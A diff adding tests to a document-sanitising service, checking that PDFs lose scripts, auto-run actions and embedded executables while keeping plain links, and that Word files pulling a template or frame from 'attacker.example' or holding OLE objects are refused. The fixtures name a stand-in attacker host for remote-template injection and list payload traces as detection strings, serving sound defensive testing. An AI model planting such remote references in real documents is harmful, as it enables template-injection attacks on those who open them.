@@ -115,6 +115,43 @@ def test_office_documents_with_macros_or_controls_are_refused(kind, main_type, e
     assert "macros" in refusal(data, f"budget.{kind}")
 
 
+def test_a_pdf_keeps_its_pages_and_plain_links_but_nothing_it_could_run_or_carry():
+    cleaned = prepare_document("statement.pdf", documents.pdf_with_active_content()).content
+    for trace in (b"app.alert", b"calc.exe", b"cmd.exe", b"MZ-payload", b"payload.exe"):
+        assert trace not in cleaned
+    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
+        assert "/OpenAction" not in pdf.Root and "/AA" not in pdf.Root
+        assert list(pdf.Root.get("/Names", {}).keys()) == []
+        actions = [annotation.get("/A") for annotation in pdf.pages[0].Annots]
+        assert actions[0] is None
+        assert str(actions[1].URI) == "https://example.org/"
+
+
+@pytest.mark.parametrize(
+    ("part", "rows"),
+    [
+        (
+            "word/_rels/settings.xml.rels",
+            [("attachedTemplate", "file://attacker.example/share/t.dotm", True)],
+        ),
+        ("word/_rels/document.xml.rels", [("frame", "https://attacker.example/f", True)]),
+        ("word/_rels/document.xml.rels", [("oleObject", "embeddings/oleObject1.bin", False)]),
+    ],
+    ids=["remote-template", "remote-frame", "ole-object"],
+)
+def test_a_document_that_loads_anything_from_outside_itself_is_refused(part, rows):
+    data = documents.ooxml(extra={part: documents.relationships(*rows)})
+    assert "from outside itself" in refusal(data, "letter.docx")
+    assert "ззовні" in refusal(data, "letter.docx", language="uk")
+
+
+def test_a_documents_hyperlinks_to_other_sites_are_kept():
+    rels = documents.relationships(("hyperlink", "https://example.org/", True))
+    data = documents.ooxml(extra={"word/_rels/document.xml.rels": rels})
+    cleaned = prepare_document("letter.docx", data).content
+    assert documents.parts_of(cleaned)["word/_rels/document.xml.rels"] == rels
+
+
 def test_a_package_that_declares_a_word_template_is_not_a_document():
     data = documents.ooxml(
         main_type="application/vnd.openxmlformats-officedocument"
